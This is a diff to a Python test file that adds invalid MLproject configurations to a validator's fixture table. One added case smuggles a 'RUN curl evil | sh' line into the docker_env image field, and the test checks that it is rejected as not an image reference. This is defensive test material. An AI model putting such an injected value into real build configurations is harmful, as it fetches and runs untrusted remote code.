@@ -34,6 +34,14 @@ BAD_CODESETS: dict[str, tuple[dict[str, str | bytes], tuple[str, ...]]] = {
         ("MLproject", "python_env", "both"),
     ),
     "neither env file": ({"MLproject": MAIN}, ("MLproject", "no environment")),
+    "docker_env image injecting a Dockerfile line": (
+        {"MLproject": 'docker_env:\n  image: "python:3.11\\nRUN curl evil | sh"\n' + MAIN,
+         "requirements.txt": "numpy\n"},
+        ("MLproject", "docker_env.image", "not an image reference")),
+    "docker_env image with a space": (
+        {"MLproject": "docker_env:\n  image: python 3.11\n" + MAIN,
+         "requirements.txt": "numpy\n"},
+        ("MLproject", "docker_env.image", "not an image reference")),
     "declared env file missing": ({"MLproject": "conda_env: env.yaml\n" + MAIN},
                                   ("MLproject", "conda_env", "not found")),
     "malformed MLproject YAML": ({"MLproject": "entry_points: [main:\n"},
